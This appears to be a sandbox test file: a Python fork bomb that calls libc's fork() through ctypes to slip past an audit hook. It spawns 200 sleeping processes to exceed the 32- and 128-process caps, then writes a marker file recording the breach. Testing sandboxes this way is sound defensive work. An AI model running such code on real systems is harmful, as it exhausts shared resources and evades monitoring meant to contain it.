"""Resource attack: a fork bomb through libc's fork() (ctypes.pythonapi, loaded before the audit hook), which
no audit event counts: 200 sleeping children, past the 32-process cap of the audit hook and the 128-task
cap of the sandbox's own user."""
import ctypes as _ctypes
import os as _os
from pathlib import Path as _Path

_HERE = _Path(__file__).resolve().parents[2]
_libc = _ctypes.pythonapi
_made = 0
for _ in range(200):
    _pid = _libc.fork()
    if _pid == 0:
        _libc.pause()  # until the grader's SIGKILL
        _os._exit(0)
    if _pid > 0:
        _made += 1
if _made >= 128:
    with open(_HERE / "markers" / "resource__fork_bomb_via_libc", "a") as _m:
        _m.write(f"{_made} processes forked through libc, past the 128-task cap\n")
raise NotImplementedError("the bomb went off")
